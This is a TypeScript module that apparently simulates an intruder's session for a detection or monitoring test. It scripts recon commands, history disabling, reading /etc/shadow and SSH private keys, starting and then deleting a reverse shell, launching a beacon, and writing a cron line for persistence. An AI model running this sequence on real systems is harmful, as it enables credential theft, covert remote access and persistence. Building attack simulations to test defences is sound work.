import type { Login } from "./login.ts";
import type { Plot } from "./plot.ts";

export type IntruderStep =
  | "intruder-login"
  | "recon"
  | "secrets"
  | "reverse-started"
  | "reverse-deleted"
  | "beacon-started"
  | "cron-written";

/** What an intruder wants to know first, in the order in which most of them ask (ATT&CK T1033, T1082, T1049, T1057, T1087, T1552.004). */
const RECON = [
  "unset HISTFILE",
  "id",
  "w",
  "uname -a",
  "ss -tnp",
  "ps aux",
  "cat /etc/passwd",
  "find / -xdev -name 'id_*' -path '*.ssh*' 2>/dev/null",
];
const SECRETS = ["cat /etc/shadow", "cat /home/dev/.ssh/id_ed25519", "cat /home/dev/.ssh/known_hosts /home/dev/.ssh/config"];
const IDLE = ["w", "ss -tn", "ls -la /dev/shm", "last | head -5"];

/**
 * The intruder's own hands: looks around, takes secrets, drops two programs, starts them, hides one, makes the other come back, then
 * looks in now and then until the login is over (which ends this with `LoginOver`). `watched`: when he may begin.
 */
export async function intrude(login: Login, plot: Plot, step: (name: IntruderStep) => void, watched?: Promise<void>): Promise<void> {
  const { reverse, beacon } = plot;
  await login.ready();
  step("intruder-login");
  if (watched) await Promise.race([watched, login.over]);
  for (const command of RECON) await login.run(command);
  step("recon");
  for (const command of SECRETS) await login.run(command);
  step("secrets");
  await login.run("cd /tmp");
  await login.run(reverse.shell.drop);
  await login.run(`nohup ${reverse.shell.run(reverse.args)} >/dev/null 2>&1 &`);
  step("reverse-started");
  await login.run(`rm -f ${reverse.path}`);
  step("reverse-deleted");
  await login.run(beacon.shell.drop);
  await login.run(`setsid ${beacon.shell.run(beacon.args)} >/dev/null 2>&1 &`);
  step("beacon-started");
  await login.run(`echo '${plot.cronLine.replaceAll("'", "'\\''")}' >${plot.cronFile}`);
  await login.run(`chmod 644 ${plot.cronFile}; cat ${plot.cronFile}`);
  step("cron-written");
  for (let turn = 0; ; turn++) {
    await login.pause(4000, 9000);
    await login.run(IDLE[turn % IDLE.length] as string);
  }
}
